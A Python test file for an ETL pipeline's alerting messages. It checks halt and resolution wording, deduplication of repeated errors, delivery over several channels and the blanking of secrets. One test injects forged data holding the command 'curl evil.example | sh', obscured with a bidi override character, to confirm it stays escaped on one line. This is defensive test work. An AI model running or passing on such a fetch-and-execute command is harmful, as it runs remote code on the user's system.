"""The messages: what halted, since when, why, who is affected, what to run, and no secret."""

from dataclasses import replace
from datetime import UTC, date, datetime

import pytest
from pydantic import SecretStr

from etl.alerting.channels import Delivery
from etl.alerting.messages import Halt, Links, Message, compose, compose_end
from etl.alerting.notify import AlertReport, News, news_of
from etl.ops.incidents import Incident
from etl.platform.error_boundary import without_secrets
from etl.platform.settings import Settings
from tests.tokens import HOSTILE, is_harmless

SINCE = datetime(2020, 5, 5, 1, 2, 3, tzinfo=UTC)
HALT = Halt(
    date(2020, 5, 4), "scheduled__1", "audit_raw", "raw", SINCE, "gate raw: volume halved",
    ("fail: store 6 is missing", "warn: late"), ("Sales overview (dashboard, owner Ann)",),
)
TOLD = Incident("2020-05-04-1", HALT.day, "audit_raw", "raw", "gate raw: volume halved", SINCE, SINCE)
PLACES = Links("http://docs.example.com", "http://docs.example.com/review/2020-05-04.html")


def test_the_message_says_all_an_operator_needs() -> None:
    message = compose(HALT, PLACES)
    assert message.subject == "[glamira] 2020-05-04 held at raw"
    for words in ("halted at audit_raw", "2020-05-05 01:02:03 UTC", "scheduled__1", "gate raw: volume halved",
                  "fail: store 6 is missing", "Sales overview (dashboard, owner Ann)",
                  ".venv/bin/glamira status 2020-05-04", ".venv/bin/glamira run 2020-05-04", *vars_of(PLACES)):
        assert words in message.text


def vars_of(places: Links) -> tuple[str, str]:
    """Both addresses."""
    return places.data_docs, places.review


def test_an_update_names_what_was_told_before() -> None:
    message = compose(replace(HALT, station="build", gate="build", error="model broken"), PLACES, TOLD)
    assert message.subject == "[glamira] 2020-05-04 still held, now at build"
    assert "audit_raw (gate raw): gate raw: volume halved" in message.text


def test_the_end_names_the_incident_and_its_page() -> None:
    message = compose_end(TOLD, PLACES.review)
    assert message.subject == "[glamira] 2020-05-04 resolved: published"
    for words in ("2020-05-05 01:02:03 UTC", "gate raw", "volume halved", PLACES.review):
        assert words in message.text


def test_a_refused_batch_points_to_its_quarantine() -> None:
    message = compose(replace(HALT, station="land_events", gate="land_events"), PLACES)
    assert ".venv/bin/glamira quarantine list --day 2020-05-04" in message.text


def test_what_is_not_known_has_no_heading() -> None:
    text = compose(replace(HALT, facts=(), affected=()), Links("gs://docs/index.html")).text
    left_out = "Worst facts", "Shown as they were", "review", "Last notification"
    assert not [words for words in left_out if words in text]


def test_what_comes_from_data_stays_in_its_line() -> None:
    forged = "store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800"
    text = compose(replace(HALT, error=forged, facts=(forged,)), PLACES).text
    assert [line for line in text.splitlines() if "evil" in line] == [
        r"  store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800",
        r"  - store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800",
    ]


def test_every_part_of_a_message_is_harmless() -> None:
    halt = Halt(HALT.day, HOSTILE, HOSTILE, HOSTILE, SINCE, HOSTILE, (HOSTILE,), (HOSTILE,))
    before = replace(TOLD, station=HOSTILE, gate=HOSTILE, error=HOSTILE)
    for message in (compose(halt, Links(HOSTILE, HOSTILE), before), compose_end(before, HOSTILE)):
        assert message.subject.isprintable()
        assert is_harmless(message.text)
        assert [line for line in message.text.splitlines() if line.startswith("ERROR")] == []


@pytest.mark.parametrize(("known", "news"), [
    (None, News.OPENED),
    (replace(TOLD, notified_at=None), News.OPENED),
    (TOLD, News.KNOWN),
    (replace(TOLD, station="build"), News.WORSENED),
    (replace(TOLD, gate="marts"), News.WORSENED),
    (replace(TOLD, error="gate raw: volume of store 6 halved"), News.WORSENED),
])
def test_only_what_is_new_is_told(known: Incident | None, news: News) -> None:
    assert news_of(known, HALT) is news


@pytest.mark.parametrize(("before", "after", "is_same"), [
    ("disk full. The whole story: var/errors/1.log. Run it", "disk full. The whole story: var/errors/2.log. Run it", 1),
    ("held by manual__2020-05-04__1 since 2020-05-05 01:02:03 UTC", "held by manual__2020-05-04__2 since "
                                                                    "2020-05-05 03:04:05 UTC", 1),
    ("waited 600 s", "waited 601.5 s", 1),
    ("long " * 200, "long " * 100, 1),
    ("12 of 100 rows refused", "13 of 100 rows refused", 0),
    ("nothing of 2020-05-04", "nothing of 2020-05-05", 0),
])
def test_the_same_error_again_is_no_news(before: str, after: str, is_same: int) -> None:
    assert replace(TOLD, error=before).repeats("audit_raw", "raw", after) is bool(is_same)


def test_secrets_are_blanked() -> None:
    settings = Settings.model_construct(
        mongo_uri=SecretStr("mongodb://user:password@host"), pseudonym_key=SecretStr(""), gcp_project="glamira",
    )
    assert without_secrets("cannot reach mongodb://user:password@host of glamira", settings) == (
        "cannot reach *** of glamira"
    )


@pytest.mark.parametrize(("deliveries", "is_delivered"), [
    ((), True),
    ((Delivery("mail"),), True),
    ((Delivery("mail", "ConnectionRefusedError"), Delivery("webhook")), True),
    ((Delivery("mail", "ConnectionRefusedError"), Delivery("webhook", "ConnectionError")), False),
])
def test_one_channel_is_enough(deliveries: tuple[Delivery, ...], is_delivered: bool) -> None:
    assert AlertReport(News.OPENED, Message("", ""), deliveries).is_delivered is is_delivered


def test_the_end_of_a_closed_day_names_who_closed_it() -> None:
    closed = replace(TOLD, closed_because="no documents, accepted by ada: the shop was closed")
    message = compose_end(closed)
    assert message.subject.endswith("resolved: no documents")
    assert "is closed: no documents, accepted by ada: the shop was closed." in message.text


def test_without_a_page_of_the_day_that_of_all_days_is_named() -> None:
    text = compose(HALT, Links("http://docs.example.com", front="http://docs.example.com/review/index.html")).text
    assert "http://docs.example.com/review/index.html" in text
    assert "2020-05-04.html" not in text
